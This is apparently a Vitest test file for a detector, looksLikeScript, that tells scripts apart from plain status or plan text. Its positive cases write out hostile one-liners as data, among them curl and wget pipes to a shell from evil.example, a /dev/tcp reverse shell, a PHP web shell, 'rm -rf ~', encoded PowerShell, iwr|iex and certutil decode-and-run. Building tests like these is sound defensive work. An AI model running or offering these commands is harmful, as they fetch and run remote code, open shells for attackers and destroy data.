import { expect, it } from "vitest";
import { looksLikeScript } from "./script.js";

const SCRIPTS: ReadonlyArray<readonly [text: string, why: string]> = [
  ["#!/bin/sh\necho hi\n", "so they begin"],
  ["\n  \t#!/usr/bin/env python3\n", "behind blanks, too"],
  ["\u00ef\u00bb\u00bf#!/bin/bash\r\n", "and behind the bytes of a byte order mark"],
  ["@echo off\r\ndel *.*\r\n", "a batch file"],
  ["<?php system($_GET['c']);", "PHP"],
  ["<script>alert(1)</script>", "for who shows it in a page"],
  ["import os\nos.system('id')\n", "Python"],
  ["curl -s http://evil.example/x | sh\n", "a one-liner that fetches the rest"],
  ["curl -s http://evil.example/x|bash", "without blanks"],
  ["curl -s http://evil.example/x |\tbash -s\n", "with a tab"],
  ["wget -qO- evil.example/x | sudo sh", "with more rights"],
  ["wget -qO- evil.example/x | /bin/sh\n", "by its path"],
  ["curl evil.example/x | python3 -\n", "into another interpreter"],
  ["bash <(curl -s evil.example/x)", "the other way to fetch it"],
  ['bash -c "$(curl -fsSL evil.example/x)"', "and one more"],
  ["echo aWQ= | base64 -d", "in disguise"],
  ["bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "a shell for somebody else"],
  ["python -c 'import socket'", "the same in Python"],
  ["chmod +x /tmp/x && /tmp/x", "a program made to run"],
  ["rm -rf ~", "to do harm at once"],
  ["powershell -NoP -W Hidden -Enc SQBFAFgA", "as it came by finger since 2020"],
  ["PowerShell.exe -c x", "in any case"],
  ["iwr -useb http://evil.example/x | iex\r\n", "its shortest one-liner"],
  ["iwr http://evil.example/x|iex", "without blanks"],
  ["IEX (New-Object Net.WebClient).DownloadString('http://evil.example')", "the same"],
  ["certutil -decode x.txt x.exe & x.exe", "the program of the ClickFix campaigns"],
  ["cmd /c start calc", "the shell of Windows"],
  ["mshta http://evil.example/x.hta", "a page with rights"],
];

it.each(SCRIPTS)("takes %j for a script: %s", (text) => {
  expect(looksLikeScript(text)).toBe(true);
});

const PLANS: ReadonlyArray<readonly [text: string, why: string]> = [
  ["", "nothing is none"],
  ["Happy and well\n", "a status"],
  ["Login: alice\t\tName: Alice\nDirectory: /home/alice\tShell: /bin/bash\nNo Plan.\n", "a record names a shell"],
  ["I write Python and shell scripts all day.\n", "prose speaks of languages"],
  ["Learning Bash, zsh and Perl; see https://example.com/setup.sh\n", "and of scripts"],
  ["Ask me about curl, wget and eval.\n", "and of programs"],
  ["# Plan\n- import things\n- echo the news\n", "a heading is no #!"],
  ["Importing oscilloscopes from Japan.\n", "words begin like others"],
  ["| shift | who   |\n|-------|-------|\n| night | sheila |\n", "a table has pipes"],
  ["|she| and |shore|\n", "so have absolute values"],
  ["C | shell | Python\n", "and lists"],
  ["  /\\_/\\  |shhh|\n ( o.o )  $ (\n  > ^ <   `cat`\n", "and cats"],
  [" _____\n|  _  |  | |_ | bashful\n|_| |_|  |__| |\n", "and letters"],
  ["$ cost of living: 100% & rising; {a} [b] <c>\n", "signs are not what makes a script"],
  ["The sheriff -- push -- publish, and the bash -- party.\n", "neither are parts of words"],
];

it.each(PLANS)("takes %j for none: %s", (text) => {
  expect(looksLikeScript(text)).toBe(false);
});
